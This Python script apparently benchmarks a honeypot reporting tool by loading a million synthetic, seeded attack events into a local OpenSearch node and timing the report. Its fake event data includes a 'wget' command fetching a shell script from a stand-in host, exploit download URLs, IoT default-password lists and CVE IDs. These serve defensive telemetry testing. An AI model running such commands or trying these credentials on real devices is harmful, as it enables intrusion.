"""lure-report against 1,000,000 events from 20 sensors (issue 17's goal: the report in <= 10 s).

Starts its own OpenSearch node (test/es/node.py; 1 GiB heap, full JIT), installs etc/es/ with
lure-report --setup, bulk-loads a synthetic day straight into lure-YYYY.MM.DD (not through lure: lure's
shipping has its own benchmark, test/bench/ship_bench.py), then times Report.run() (every section, HTML
rendered) ROUNDS times, and prints the node's disk for the day's events.

The day: 20 sensors, 20,000 sources (a few heavy ones: mass scanners, brute-forcers, SYN scanners), heartbeats
every 60 s, connection open/close, requests, logins (most failed), scan events with tool tags, exploits,
commands with download URLs and hashes, geo/AS fields as the pipeline would set them. Seeded: the same day
every run. Loopback only. Usage: report.py [events [rounds]]; not part of CI.
"""
import json
import os
import random
import sys
import threading
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(REPO / "test" / "es"))
sys.path.insert(0, str(REPO / "platform" / "analysis"))
from node import Node, build  # noqa: E402

from lure_report import cli, render  # noqa: E402
from lure_report.query import Report  # noqa: E402

EVENTS = int(sys.argv[1]) if len(sys.argv) > 1 else 1_000_000
ROUNDS = int(sys.argv[2]) if len(sys.argv) > 2 else 3
SENSORS = [f"bench{i:02d}" for i in range(20)]
DAY_MS = 86_400_000
PORTS = [22, 23, 80, 443, 8080, 21, 25, 3306, 6379, 5900, 554, 8000, 2323, 7547, 81]
USERS = ["root", "admin", "user", "support", "guest", "ubnt", "pi", "test", "oracle", "ftp"]
PASSWORDS = ["123456", "admin", "password", "root", "12345", "1234", "default", "xc3511", "vizxv", "888888"]
CVES = ["CVE-2021-36260", "CVE-2017-7921", "CVE-2017-17215", "CVE-2014-8361", "CVE-2018-10561"]
COUNTRIES = [("CN", 4134, "Chinanet"), ("US", 14061, "DigitalOcean"), ("RU", 49505, "Selectel"),
             ("NL", 14061, "DigitalOcean"), ("BR", 28573, "Claro"), ("IN", 9829, "BSNL"), ("DE", 24940, "Hetzner")]


def make_day(end_ms, n, seed=17):
    rnd = random.Random(seed)
    start = end_ms - DAY_MS
    ips = [f"{rnd.randrange(1, 224)}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
           for _ in range(20_000)]
    geo = {ip: COUNTRIES[hash(ip) % len(COUNTRIES)] for ip in ips}
    heavy = ips[:200]
    seq = {s: 0 for s in SENSORS}

    def base(ts, sensor, action):
        seq[sensor] += 1
        return {"@timestamp": ts, "observer": {"name": sensor, "product": "lure", "type": "honeypot"},
                "event": {"action": action, "id": f"{sensor}-b-{seq[sensor]}", "sequence": seq[sensor]}}

    # heartbeats: every 60 s per sensor (one sensor goes silent for the last hour)
    for s in SENSORS:
        for k in range(0, DAY_MS, 60_000):
            if s == SENSORS[-1] and k > DAY_MS - 3_600_000:
                break
            e = base(start + k, s, "status")
            e["event"]["reason"] = "heartbeat"
            e["lure"] = {"events": {"accepted": seq[s], "dropped": 0, "shipped": seq[s]},
                         "ship": {"queued": rnd.randrange(50)}}
            yield e
    left = n - 20 * 1440
    while left > 0:
        ip = heavy[rnd.randrange(200)] if rnd.random() < 0.3 else ips[rnd.randrange(len(ips))]
        sensor = SENSORS[rnd.randrange(20)]
        ts = start + rnd.randrange(DAY_MS - 3_600_000 if sensor == SENSORS[-1] else DAY_MS)
        c, asn, org = geo[ip]
        r = rnd.random()
        if r < 0.35:
            e = base(ts, sensor, "scan")
            e["network"] = {"transport": "tcp"}
            e["destination"] = {"port": rnd.choice(PORTS) if rnd.random() < 0.7 else rnd.randrange(1, 65536)}
            if hash(ip) % 5 == 0:
                e["lure"] = {"scan": {"tool": ["masscan", "zmap", "nmap", "mirai"][hash(ip) % 4]}}
            if rnd.random() < 0.05:  # the source's summary of a scan window
                e["event"].update(action="scan", dataset="lure.scan.summary")
                e["lure"] = {"scan": {"packets": rnd.choice([1, 3, 8, 40, 2000]), "transports": ["tcp"]}}
        elif r < 0.6:
            e = base(ts, sensor, rnd.choice(["connection.open", "connection.close"]))
            p = rnd.choice(PORTS[:6])
            e["destination"] = {"port": p}
            e["lure"] = {"persona_port": p}
            e["network"] = {"protocol": {22: "ssh", 23: "telnet", 80: "http", 443: "http", 8080: "http",
                                         21: "ftp"}[p], "transport": "tcp"}
        elif r < 0.85:
            e = base(ts, sensor, "login")
            proto, p = rnd.choice([("ssh", 22), ("telnet", 23), ("ftp", 21)])
            e["destination"] = {"port": p}
            e["network"] = {"protocol": proto}
            e["user"] = {"name": rnd.choice(USERS)}
            e["lure"] = {"auth": {"password": rnd.choice(PASSWORDS)}}
            e["event"]["outcome"] = "failure" if rnd.random() < 0.95 else "success"
            if proto == "ssh":
                e["lure"]["ssh"] = {"hassh": f"{hash(ip) % 7:032x}", "client_version": "SSH-2.0-Go"}
        elif r < 0.97:
            e = base(ts, sensor, "request")
            e["destination"] = {"port": 80}
            e["network"] = {"protocol": "http"}
            e["url"] = {"original": rnd.choice(["/", "/login.cgi", "/.env", "/cgi-bin/luci", "/HNAP1/"])}
            if rnd.random() < 0.2:
                e["tls"] = {"client": {"ja4": f"t13d1516h2_{hash(ip) % 5:012x}_abc", "ja3": f"{hash(ip) % 5:032x}"}}
        elif r < 0.99:
            e = base(ts, sensor, "exploit")
            e["destination"] = {"port": 80}
            e["vulnerability"] = {"id": rnd.choice(CVES)}
            e["rule"] = {"name": "rule"}
            e["lure"] = {"indicators": {"url": [f"http://198.51.100.{hash(ip) % 50}/bins/x86"]}}
        else:
            e = base(ts, sensor, "command")
            e["destination"] = {"port": 23}
            e["network"] = {"protocol": "telnet"}
            e["lure"] = {"command": "wget http://198.51.100.9/m.sh", "indicators": {"url": ["http://198.51.100.9/m.sh"]}}
            e["file"] = {"hash": {"sha1": f"{hash(ip) % 11:040x}", "md5": f"{hash(ip) % 11:032x}"}, "size": 1234}
        e["source"] = {"ip": ip, "geo": {"country_iso_code": c}, "as": {"number": asn, "organization": {"name": org}}}
        left -= 1
        yield e


def load(node, end_ms, n):
    sent, t0 = 0, time.monotonic()
    lock = threading.Lock()
    batches = []

    def flush(batch):
        st, r = node.bulk(batch, timeout=300)
        assert st == 200 and not r.get("errors"), str(r)[:500]

    def worker():
        while True:
            with lock:
                if not batches:
                    return
                b = batches.pop()
            flush(b)
    gen = make_day(end_ms, n)
    done = False
    while not done:
        for _ in range(4):
            chunk = []
            for e in gen:
                idx = time.strftime("lure-%Y.%m.%d", time.gmtime(e["@timestamp"] / 1000))
                chunk.append(json.dumps({"create": {"_index": idx, "_id": e["event"]["id"]}}))
                chunk.append(json.dumps(e, separators=(",", ":")))
                if len(chunk) >= 10_000:
                    break
            if not chunk:
                done = True
                break
            sent += len(chunk) // 2
            batches.append(("\n".join(chunk) + "\n").encode())
        ts = [threading.Thread(target=worker) for _ in range(2)]
        for t in ts:
            t.start()
        for t in ts:
            t.join()
    node.request("POST", "/lure-*/_refresh")
    return sent, time.monotonic() - t0


def main():
    """BENCH_URL=http://127.0.0.1:PORT BENCH_END=<epoch ms>: time the report on a node already loaded."""
    build()
    n = Node(java_opts=os.environ.get("BENCH_JAVA_OPTS", "-Xms1g -Xmx1g"), timeout=180)
    if os.environ.get("BENCH_URL"):
        n.url = os.environ["BENCH_URL"]
        n.stop = n.close = lambda: None
    else:
        n.start()
    try:
        es = cli.client(n.url)
        end = int(os.environ.get("BENCH_END") or time.time() * 1000)
        if not os.environ.get("BENCH_URL"):
            cli.setup(es, REPO / "etc" / "es", 30 * 86400)
            sent, secs = load(n, end, EVENTS)
            print(f"loaded {sent:,} events in {secs:.0f} s ({sent / secs:,.0f}/s)")
            n.request("POST", "/lure-*/_forcemerge?max_num_segments=1&wait_for_completion=true", timeout=900)
            n.request("POST", "/lure-*/_refresh")
            st, cat = n.request("GET", "/_cat/indices/lure-*?format=json&bytes=b")
            size = sum(int(x["store.size"]) for x in cat)
            print(f"disk: {size / 2**20:.1f} MiB for {sent:,} events ({size / sent:.0f} bytes/event, "
                  f"best_compression, force-merged)")
        times = []
        for i in range(ROUNDS):
            t0 = time.monotonic()
            data = Report(es, end - DAY_MS, end).run()
            html = render.to_html(data)
            times.append(time.monotonic() - t0)
            print(f"round {i + 1}: {times[-1]:.2f} s ({data['seconds']} s of queries), {len(data['sources']):,} "
                  f"sources, {data['overview']['events']:,} events, HTML {len(html) / 1024:.0f} KiB; "
                  f"{data['class_counts']}")
        print(f"report: first {times[0]:.2f} s, best {min(times):.2f} s (goal <= 10 s)")
        Path(REPO / "build" / "report").mkdir(parents=True, exist_ok=True)
        (REPO / "build" / "report" / "bench.html").write_text(html)
    finally:
        n.close()


if __name__ == "__main__":
    main()
